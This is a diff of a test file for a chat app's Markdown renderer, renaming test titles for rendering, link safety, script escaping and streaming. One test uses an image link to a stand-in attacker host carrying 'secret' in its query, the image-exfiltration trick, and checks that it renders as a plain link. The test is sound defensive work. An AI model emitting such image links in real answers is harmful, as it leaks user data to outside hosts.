@@ -5,8 +5,8 @@ import { htmlOf } from './testkit.tsx';
 const html = (markdown: string, streaming = false) =>
   htmlOf(<Markdown streaming={streaming}>{markdown}</Markdown>);
 
-describe('an answer', () => {
-  test('has headings, lists, tables and code', async () => {
+describe('Markdown', () => {
+  test('renders headings, lists, tables and code', async () => {
     const answer = await html('## Title\n\n- one\n\n| a |\n|---|\n| b |\n\n```ts\nconst x = 1;\n```');
     expect(answer).toMatch(/<h2[^>]*>Title<\/h2>/);
     expect(answer).toMatch(/<li[^>]*>one<\/li>/);
@@ -14,7 +14,7 @@ describe('an answer', () => {
     expect(answer).toContain('<code>const x = 1;\n</code>');
   });
 
-  test('opens links elsewhere, without telling where they were followed', async () => {
+  test('opens links in a new tab without a referrer', async () => {
     expect(await html('[there](https://example.com/)')).toContain(
       '<a href="https://example.com/" target="_blank" rel="noopener noreferrer nofollow">there</a>',
     );
@@ -37,17 +37,17 @@ describe('an answer', () => {
     expect(answer).toContain('&lt;script&gt;');
   });
 
-  test('loads no pictures: it links to them', async () => {
+  test('links to pictures instead of loading them', async () => {
     const answer = await html('![a chart](https://evil.example/?q=secret)');
     expect(answer).not.toContain('<img');
     expect(answer).toMatch(/<a href="https:\/\/evil\.example\/\?q=secret"[^>]*>a chart<\/a>/);
   });
 
-  test('closes what is still open while it is being written', async () => {
+  test('closes unclosed marks of an answer in progress', async () => {
     expect(await html('This is **bo', true)).toMatch(/data-streamdown="strong"[^>]*>bo</);
   });
 
-  test('is rendered in pieces as it would be in one', async () => {
+  test('renders pieces like the whole text', async () => {
     const section = (n: number) =>
       `## Part ${n}\n\nThe **server** keeps _each_ answer: \`chat.send\`, [a link](https://example.com/${n}), [another][docs], ~~gone~~.\nA second line.\n\n> A quote\n> - with a list\n\n1. one\n2. two\n   - nested\n\n     with a paragraph\n\n- [x] done\n- [ ] not done\n\n\`\`\`ts\nconst part = ${n};\n\n# not a heading\n\`\`\`\n\n| a | b |\n|:--|--:|\n| c | ${n} |\n\n    indented code\n\nTitle\n-----\n\n---\n`;
     const text = `${Array.from({ length: 20 }, (_, n) => section(n)).join('\n')}\n[docs]: https://example.com/docs\n`;
